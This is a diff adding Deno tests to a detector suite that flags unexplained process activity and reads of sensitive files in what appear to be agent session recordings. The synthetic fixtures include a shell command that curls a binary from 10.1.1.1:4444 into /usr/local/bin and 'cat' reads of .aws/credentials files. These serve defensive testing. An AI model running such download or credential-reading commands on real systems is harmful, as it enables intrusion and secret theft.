@@ -205,6 +205,28 @@ Deno.test("detectors: a process no tool call explains that writes and connects o
   assert.ok(!String(f.explanation).includes("/tmp/scratch"), "scratch space is not reported");
 });
 
+Deno.test("detectors: an unexplained branch is named by the command that started it, and the one it ran last", async () => {
+  const rec = attack(false);
+  rec.process!.push(
+    r.fork(ms(6000), 240, A),
+    r.exec(ms(6001), 240, A, ["/bin/sh", "-c", "curl -o /usr/local/bin/x http://10.1.1.1:4444/x"]),
+    // the shell then becomes something harmless-looking
+    r.exec(ms(6100), 240, A, ["./cleanup"]),
+  );
+  rec.file!.push(r.open(ms(6002), 240, "/usr/local/bin/x", { flags: 577 }));
+  const { findings } = await detect(rec);
+  const [f] = findings.filter((x) => x.kind === "unexplained_activity");
+  assert.equal(
+    json(f.details).command,
+    "/bin/sh -c curl -o /usr/local/bin/x http://10.1.1.1:4444/x",
+  );
+  assert.equal(json(f.details).last_command, "./cleanup");
+  assert.match(
+    String(f.explanation),
+    /^Process 240 \(\/bin\/sh -c curl [^;]*; then ran \.\/cleanup\)/,
+  );
+});
+
 Deno.test("detectors: an allowlist file takes a destination out of exfiltration", async () => {
   const dir = await Deno.makeTempDir();
   const file = join(dir, "allow.txt");
@@ -1146,4 +1168,67 @@ Deno.test("detectors: a secret in a home the recording shows beyond /root and /h
   assert.deepEqual(found.map((f) => f.severity), ["critical"]);
   // nothing shows that home: not a home to the patterns (the recording's limit)
   assert.deepEqual(await run(false), []);
+});
+
+Deno.test("detectors: a home must be plausibly one: a .bashrc under /etc/skel or in a dotfiles repository inside a home shows no home, so their ~/ files are no secrets (main: critical)", async () => {
+  const found = async (opened: string[], secret: string) => {
+    const rec = attack(false);
+    rec.process!.push(
+      r.fork(ms(6000), 262, A),
+      r.exec(ms(6001), 262, A, ["cat", secret]),
+      r.fork(ms(6100), 263, A),
+      r.exec(ms(6101), 263, A, ["ls", "-a"]),
+    );
+    rec.file!.push(
+      r.open(ms(6002), 262, secret),
+      ...opened.map((p, i) => r.open(ms(6102 + i), 263, p)),
+    );
+    const { findings } = await detect(rec);
+    return findings.filter((f) =>
+      f.kind === "sensitive_access" && String(f.explanation).includes(secret)
+    ).map((f) => f.severity);
+  };
+  // the template new homes are copied from
+  assert.deepEqual(await found(["/etc/skel/.bashrc"], "/etc/skel/.aws/credentials"), []);
+  // a dotfiles repository in /root, and one inside a service user's home
+  assert.deepEqual(
+    await found(
+      ["/root/dotfiles/.bashrc", "/root/dotfiles/.zshrc"],
+      "/root/dotfiles/.aws/credentials",
+    ),
+    [],
+  );
+  const jenkins = ["/var/lib/jenkins/.gitconfig", "/var/lib/jenkins/dotfiles/.bashrc"];
+  assert.deepEqual(await found(jenkins, "/var/lib/jenkins/dotfiles/.aws/credentials"), []);
+  // the service user's home itself still is one
+  assert.deepEqual(await found(jenkins, "/var/lib/jenkins/.aws/credentials"), ["critical"]);
+});
+
+Deno.test("detectors: more homes shown than the detectors guard (64) is a problems row naming those left out", async () => {
+  const rec = attack(false);
+  rec.process!.push(r.fork(ms(6000), 264, A), r.exec(ms(6001), 264, A, ["git", "status"]));
+  const dirs = Array.from({ length: 70 }, (_, i) => `/srv/u${String(i).padStart(2, "0")}`);
+  // the first 64 show two files each, the rest one: those are left out
+  rec.file!.push(
+    ...dirs.flatMap((d, i) =>
+      i < 64
+        ? [r.open(ms(6002 + i), 264, `${d}/.gitconfig`), r.open(ms(6002 + i), 264, `${d}/.profile`)]
+        : [r.open(ms(6002 + i), 264, `${d}/.gitconfig`)]
+    ),
+  );
+  const { c, close } = await syntheticDb(rec);
+  try {
+    assert.deepEqual(await buildCorrelation(c), []);
+    const problems = await buildFindings(c, DEFAULT_DETECT_SETTINGS);
+    assert.deepEqual(problems.map((p) => [p.source, p.kind]), [["homes_capped.sql", "truncated"]]);
+    assert.match(problems[0].message, /^70 directories look like homes/);
+    assert.match(
+      problems[0].message,
+      /\/srv\/u64, \/srv\/u65, \/srv\/u66, \/srv\/u67, \/srv\/u68 and 1 more$/,
+    );
+    const homes = await all(c, "SELECT count(*) AS n FROM recording_homes()");
+    assert.equal(homes[0].n, 64n);
+  } finally {
+    close();
+  }
 });
